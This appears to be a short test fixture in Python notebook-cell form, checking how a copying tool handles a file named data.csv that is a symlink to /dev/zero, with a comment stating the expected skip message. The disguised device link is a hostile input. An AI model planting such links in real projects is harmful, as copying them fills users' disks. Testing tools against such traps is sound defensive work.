# Puts a link to a device beside the notebook. Keeps: a b. Says: was left out. Harms: the copy fills the disk.
# %% layout
def folder(path):
    (path / "data.csv").symlink_to("/dev/zero")
